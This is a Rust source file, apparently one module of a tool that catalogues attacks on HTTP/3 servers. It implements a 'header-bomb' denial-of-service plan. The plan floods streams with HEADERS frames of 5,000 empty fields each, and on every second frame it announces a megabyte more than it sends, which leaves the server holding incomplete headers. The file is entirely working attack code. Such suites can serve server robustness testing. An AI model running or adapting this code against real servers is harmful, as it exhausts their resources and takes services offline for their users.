//! Header sections beyond every limit.

use crate::attack::{Plan, Victim};
use crate::http::{self, Method};

use super::{Crowd, crowd};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "header-bomb",
    labels: &["A73"],
    summary: "HEADERS frames with thousands of short fields, every second one incomplete",
    victim: Victim::Server,
    make: || Box::new(header_bomb()),
};

fn header_bomb() -> Crowd {
    Crowd::new(4, |connection, progress, _| {
        for _ in 0..crowd::permitted(connection, progress, BURST) {
            let id = http::request_stream(progress.streams);
            progress.streams += 1;
            let mut section = http::section(Method::Get, "/");
            for _ in 0..FIELDS {
                http::put_field(&mut section, "a", b"");
            }
            // Every second frame announces more bytes than it sends.
            let len = section.len() as u64 + (progress.streams % 2) * (1 << 20);
            let mut bytes = http::header(http::HEADERS, len);
            bytes.extend(section);
            for (index, chunk) in bytes.chunks(1000).enumerate() {
                let offset = index as u64 * 1000;
                connection.push_bytes(http::stream(id, offset, chunk, false));
            }
        }
    })
    .with_begin(crowd::preface)
}

/// Requests of one connection in one turn.
const BURST: u64 = 2;

/// Field lines in one section. Each counts 33 bytes (RFC 9114 §4.2.2).
const FIELDS: usize = 5000;
